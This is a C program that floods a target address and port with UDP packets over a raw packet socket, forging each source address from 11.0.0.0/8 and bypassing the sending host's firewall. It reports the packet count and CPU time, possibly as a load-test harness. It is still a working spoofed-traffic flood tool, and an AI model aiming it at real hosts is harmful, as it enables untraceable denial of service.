/* Sends UDP packets as fast as it can, each from another address of 11.0.0.0/8: spoof <address> <port> <seconds> <interface> <MAC>. Past the
 * rules of the host that it runs on, to the hardware address of the next one. Prints how many, and its own CPU seconds. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>

#define SOURCES 0x0b000000u
#define PAYLOAD 64

static double seconds_of(struct timeval time) { return time.tv_sec + time.tv_usec / 1e6; }

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

static uint16_t checksum(const void *header, int length) {
  const uint16_t *words = header;
  uint32_t sum = 0;
  for (int at = 0; at < length / 2; at++) sum += words[at];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum;
}

int main(int argc, char **argv) {
  if (argc != 6) return 2;
  struct {
    struct iphdr ip;
    struct udphdr udp;
    char payload[PAYLOAD];
  } packet = {
      .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .tot_len = htons(sizeof packet)},
      .udp = {.source = htons(1000), .dest = htons(atoi(argv[2])), .len = htons(sizeof packet - sizeof packet.ip)},
  };
  struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = if_nametoindex(argv[4]), .sll_halen = 6};
  uint8_t *mac = link.sll_addr;
  if (inet_pton(AF_INET, argv[1], &packet.ip.daddr) != 1) return 2;
  if (sscanf(argv[5], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) return 2;
  int sender = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  if (sender < 0) return 1;
  long packets = 0;
  uint32_t random = 1;
  for (double end = now() + atof(argv[3]); now() < end;)
    for (int round = 0; round < 100; round++) {
      random = random * 1664525u + 1013904223u; /* Numerical Recipes' generator */
      packet.ip.saddr = htonl(SOURCES | random >> 8);
      packet.ip.check = 0;
      packet.ip.check = checksum(&packet.ip, sizeof packet.ip);
      packets += sendto(sender, &packet, sizeof packet, 0, (struct sockaddr *)&link, sizeof link) > 0;
    }
  struct rusage usage;
  getrusage(RUSAGE_SELF, &usage);
  printf("%ld %f\n", packets, seconds_of(usage.ru_utime) + seconds_of(usage.ru_stime));
  return 0;
}
